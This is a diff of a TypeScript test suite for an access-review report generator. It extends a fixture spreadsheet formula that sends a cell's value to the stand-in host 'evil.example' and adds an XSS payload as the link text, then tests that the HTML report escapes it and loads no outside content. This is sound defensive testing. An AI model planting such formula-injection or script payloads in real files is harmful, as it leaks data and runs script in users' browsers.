@@ -9,7 +9,7 @@ import { admin, allRows, as, ask, house, jsonOf, requestOf, until, untilStatus }
 
 const TIMEZONE = 'Europe/Berlin'
 const FILES = ['inventory.csv', 'sessions.csv', 'review.json', 'report.html', 'manifest.json']
-const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"<img src=x onerror=alert(1)>")'
 
 const $Manifest = z.object({
   period: z.string(),
@@ -152,7 +152,10 @@ describe('the review of the current quarter', () => {
   it('REV-16 the report shows no markup of a person and loads nothing from elsewhere', () => {
     const report = textOf('report.html')
 
-    expect(report).not.toMatch(/<script|<link|<img|\son\w+=|(?:src|href)=["']https?:/i)
+    expect(report).toContain('&lt;img src=x onerror=alert(1)&gt;')
+    expect(report).not.toMatch(
+      /<(?:script|link|img|iframe|object)\b|<[a-z][^>]*\son\w+\s*=|<[a-z][^>]*(?:src|href)=["']https?:/i,
+    )
   })
 
   it('REV-02 the inventory names each rule of each entitlement with the people behind it', () => {
